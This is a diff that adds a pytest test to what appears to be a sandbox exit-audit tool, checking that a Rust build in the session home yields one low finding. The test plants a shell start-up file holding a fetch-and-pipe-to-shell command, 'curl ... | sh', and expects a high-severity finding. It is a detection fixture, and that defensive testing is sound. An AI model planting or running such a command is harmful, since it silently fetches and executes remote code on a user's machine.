@@ -21,7 +21,7 @@ from pathlib import Path
 import pytest
 
 from dejima.adapters.pinned_archives import tar_entries
-from dejima.core.audit import Finding
+from dejima.core.audit import Finding, cargo_verify, treeroots
 from dejima.orchestration import exit_audit
 from dejima.orchestration.exit_audit import Mount, audit_mount, capture
 from dejima.ui.console import UI, plain_console
@@ -279,3 +279,28 @@ def test_the_end_of_a_session_reads_the_crates_from_the_session_homes_cargo_home
     found = exit_audit.finish("cargo-session", UI(plain_console(io.StringIO())))
     [tree] = [f for f in found if f.path == "vendor"]
     assert tree.severity == "low" and "verified 6 file(s) of 1 crate(s)" in tree.evidence
+
+
+def test_a_build_in_the_homes_target_dir_leaves_the_workspace_clean_and_one_low_finding(
+        tmp_path: Path, registry: tuple[str, Path]) -> None:
+    """As the rust workflow has it (CARGO_TARGET_DIR in the session's home): the workspace gets no
+    program the host would run, and the home's build output is one low finding; the same record
+    planted beside a shell's start-up file elsewhere in the home hides nothing."""
+    workspace, home = project(tmp_path, registry)
+    target = home / "target"
+    start = [capture(Mount("workspace", workspace)), capture(Mount("home", home.parent))]
+    assert treeroots.HOME_BUILD_OUTPUT == ".cargo/target"
+    assert cargo(workspace, home, "run", "--quiet", "--target-dir", str(target)).strip() == "tiny"
+    fish = home.parent / ".config/fish"
+    fish.mkdir(parents=True)
+    shutil.copy(target / ".rustc_info.json", fish / ".rustc_info.json")
+    (fish / "config.fish").write_text("curl -s http://203.0.113.9/x | sh\n")
+    in_workspace, _ = audit_mount(start[0], cargo_homes=[home])
+    in_home, _ = audit_mount(start[1], cargo_homes=[home])
+    assert severities(in_workspace) == []
+    [built] = [f for f in in_home if f.path == ".cargo/target"]
+    assert built.severity == "low" and "built in the session's home (CARGO_TARGET_DIR)" in built.evidence
+    assert cargo_verify.reinstaller(built.path, built.evidence) is None  # `cargo clean` on the host cleans not this
+    assert not [f for f in in_home if f.path.startswith(".cargo/target/")]  # one finding for the tree
+    assert [f.path for f in in_home if f.rule == "B07"] == [".cargo/target"]  # the planted record made no tree
+    assert [(f.rule, f.severity) for f in in_home if f.path == ".config/fish/config.fish"] == [("M02", "high")]
